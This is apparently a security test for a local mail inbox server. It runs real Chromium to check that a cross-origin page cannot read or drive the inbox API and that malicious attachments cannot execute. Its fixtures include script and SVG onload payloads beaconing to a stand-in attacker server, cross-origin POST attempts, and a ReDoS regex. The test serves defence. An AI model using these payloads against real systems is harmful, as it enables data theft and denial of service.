import { once } from 'node:events'
import { createServer as createHttpServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { CHROMIUM_ARGS, findChromium } from '@mailwright/core/internal'
import { type StartedInboxServer, startInboxServer } from '@mailwright/inbox-server'
import { chromium } from '@playwright/test'
import nodemailer from 'nodemailer'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

// The browser under test visits pages; the inbox's HTTP API runs on the same machine. A page of another
// origin (here: another port on loopback) tries every way in, in real Chromium, and a sender's script in an
// attachment tries to call home. Every beacon the attacker's server receives is a script that ran.
let inbox: StartedInboxServer
let emailId: string
const beacons: string[] = []
const evil = createHttpServer((req, res) => {
  if (req.url?.startsWith('/beacon')) {
    beacons.push(req.url)
    res.end()
    return
  }
  res.setHeader('content-type', 'text/html')
  res.end('<!doctype html><title>evil</title><p>nothing to see</p>')
})
let evilOrigin: string

beforeAll(async () => {
  evil.listen(0, '127.0.0.1')
  await once(evil, 'listening')
  evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
  inbox = await startInboxServer()
  const victim = inbox.createInbox({ name: 'victim' })
  const call = (what: string) => `fetch('${evilOrigin}/beacon?${what}', { mode: 'no-cors' })`
  await nodemailer.createTransport({ host: '127.0.0.1', port: inbox.smtp.port, ignoreTLS: true }).sendMail({
    from: 'attacker@example.com',
    to: victim.address,
    subject: 'Invoice',
    text: 'see attached',
    attachments: [
      {
        filename: 'invoice.html',
        contentType: 'text/html',
        content: `<script>${call('html-attachment')}</script>`,
      },
      {
        filename: 'logo.svg',
        contentType: 'image/svg+xml',
        content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svg-attachment')}"></svg>`,
      },
    ],
  })
  emailId = (await victim.waitForEmail()).id
})
afterAll(async () => {
  await inbox?.stop()
  evil.close()
})

describe('a page on another origin, in real Chromium', () => {
  it('cannot read the inbox, create an inbox, start a wait, or run an attachment', async () => {
    const api = inbox.url as string
    const before = inbox.stats()
    const browser = await chromium.launch({ executablePath: findChromium(), args: CHROMIUM_ARGS })
    try {
      const page = await browser.newPage()
      await page.goto(`${evilOrigin}/`)
      const attempts = await page.evaluate(
        async ({ api, emailId }) => {
          const outcome = async (run: () => Promise<Response>) => {
            try {
              const res = await run()
              return res.type === 'opaque'
                ? 'opaque (no access)'
                : `read ${res.status}: ${(await res.text()).slice(0, 60)}`
            } catch (error) {
              return `refused (${(error as Error).name})`
            }
          }
          const text = { 'content-type': 'text/plain' }
          return {
            read: await outcome(() => fetch(`${api}/api/emails`)),
            readAttachment: await outcome(() => fetch(`${api}/api/emails/${emailId}/attachments/0`)),
            createInbox: await outcome(() =>
              fetch(`${api}/api/inboxes`, {
                method: 'POST',
                mode: 'no-cors',
                headers: text,
                body: '{"name":"evil"}',
              }),
            ),
            createInboxJson: await outcome(() =>
              fetch(`${api}/api/inboxes`, {
                method: 'POST',
                headers: { 'content-type': 'application/json' },
                body: '{"name":"evil"}',
              }),
            ),
            wait: await outcome(() =>
              fetch(`${api}/api/wait`, {
                method: 'POST',
                mode: 'no-cors',
                headers: text,
                body: JSON.stringify({
                  address: 'victim@inbox.test',
                  timeout: 60_000,
                  query: { subject: { regex: '(a+)+$' } },
                }),
              }),
            ),
          }
        },
        { api, emailId },
      )
      // Even the no-cors requests get nothing back (Cross-Origin-Resource-Policy blocks their responses).
      expect(attempts).toEqual({
        read: 'refused (TypeError)',
        readAttachment: 'refused (TypeError)',
        createInbox: 'refused (TypeError)',
        createInboxJson: 'refused (TypeError)',
        wait: 'refused (TypeError)',
      })
      // The no-cors requests did reach the server, which refused them: nothing was created or started.
      expect(inbox.stats().addresses).toBe(before.addresses)
      expect(inbox.stats().waits).toBe(0)

      // Opening the attachments as pages, top level and framed: a download at most, never a page that runs.
      for (const [index, name] of [
        [0, 'invoice.html'],
        [1, 'logo.svg'],
      ] as const) {
        const url = `${api}/api/emails/${emailId}/attachments/${index}`
        const opened = await browser.newPage()
        const download = opened.waitForEvent('download')
        await opened
          .goto(url)
          .catch((error: Error) => expect(error.message).toContain('Download is starting'))
        expect((await download).suggestedFilename()).toBe(name)
        await opened.close()
        await page.evaluate((src) => {
          const frame = document.createElement('iframe')
          frame.src = src
          document.body.append(frame)
          return new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
        }, url)
      }
      // Give any script that could run the time to call home: the page's own beacon proves the path works.
      await page.evaluate((origin) => fetch(`${origin}/beacon?control`, { mode: 'no-cors' }), evilOrigin)
      expect(beacons).toEqual(['/beacon?control'])
    } finally {
      await browser.close()
    }
  })
})
